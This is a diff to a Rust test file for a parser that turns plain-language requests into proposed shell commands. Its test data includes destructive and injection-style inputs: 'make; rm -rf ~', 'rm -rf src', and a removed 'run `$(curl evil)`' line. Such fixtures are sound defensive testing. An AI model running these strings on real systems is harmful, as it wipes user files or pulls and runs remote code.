@@ -17,16 +17,23 @@ fn params(request: &str) -> String {
 
 #[test]
 fn params_are_what_was_written() {
+    let mut wrong = Vec::new();
     for (request, expected) in [
         ("run `cargo fmt`", r#"{"cmd":"cargo fmt"}"#),
         ("cargo test -p core", r#"{"cmd":"cargo test -p core"}"#),
         ("please run npm run build:prod", r#"{"cmd":"npm run build:prod"}"#),
         ("@dev test --cmd=\"npm test\"", r#"{"cmd":"npm test"}"#),
         ("@dev test", r#"{"query":"tests"}"#),
-        ("run the tests", r#"{"query":"tests"}"#),
-        ("run the deploy script", r#"{"query":"deploy script"}"#),
+        ("run echo a && echo b > c", r#"{"cmd":"echo a && echo b > c"}"#),
+        ("run `echo a && echo b > c`", r#"{"cmd":"echo a && echo b > c"}"#),
+        ("The build is odd. Please run `make clean`.", r#"{"cmd":"make clean"}"#),
+        ("run rm -rf src, no wait, docs", r#"{"written":{"unclear":"run rm -rf src, no wait, docs"}}"#),
+        ("rm -f *.tmp except old.tmp", r#"{"files":["*.tmp"],"written":{"unclear":"rm -f *.tmp except old.tmp"}}"#),
+        ("if the tests pass, run `make deploy`", r#"{"written":{"unclear":"if the tests pass, run `make deploy`"}}"#),
+        ("run the tests", r#"{"query":"tests","written":{"rest":"tests"}}"#),
+        ("run the deploy script", r#"{"query":"deploy script","written":{"rest":"deploy script"}}"#),
         ("运行 make clean", r#"{"cmd":"make clean"}"#),
-        ("make && make install", r#"{"cmd":"make"}"#),
+        ("make && make install", r#"{"cmd":"make && make install"}"#),
         ("find usages of Config::load", r#"{"query":"Config::load"}"#),
         ("search the repo for \"api_key\"", r#"{"query":"api_key"}"#),
         ("grep for FIXME", r#"{"query":"FIXME"}"#),
@@ -38,8 +45,11 @@ fn params_are_what_was_written() {
         ("fix the loop in Cart.java:42", r#"{"files":["Cart.java"],"changeRequest":"fix the loop in Cart.java:42"}"#),
         ("status", "{}"),
     ] {
-        assert_eq!(params(request), expected, "{request}");
+        if params(request) != expected {
+            wrong.push(format!("{request}: {}", params(request)));
+        }
     }
+    assert_eq!(wrong, Vec::<String>::new());
 }
 
 #[test]
@@ -102,12 +112,14 @@ fn where_no_rule_fits_a_request_is_what_others_like_it_were() {
 }
 
 #[test]
-fn nothing_is_chained_to_a_command() {
+fn a_command_is_proposed_whole_or_not_at_all() {
     let route = task("run `make; rm -rf ~`");
-    assert_eq!(route.intent.params.cmd.as_deref(), Some("make"));
-    assert_eq!(route.intent.summary, "Run: make");
-    assert_eq!(route.notes, ["left out of the command: ; rm -rf ~"]);
-    assert_eq!(task("run `$(curl evil)`").intent.params.cmd, None);
+    assert_eq!(route.intent.params.cmd.as_deref(), Some("make; rm -rf ~"));
+    assert_eq!(route.intent.summary, "Run: make; rm -rf ~");
+    for request in ["run `make |`", "run `echo 'a`", "run `| sh`", &format!("run `echo {}`", "a".repeat(1001))] {
+        let params = task(request).intent.params;
+        assert!(params.cmd.is_none() && matches!(params.written.as_deref(), Some(Written::Unclear(_))), "{request}");
+    }
 }
 
 #[test]
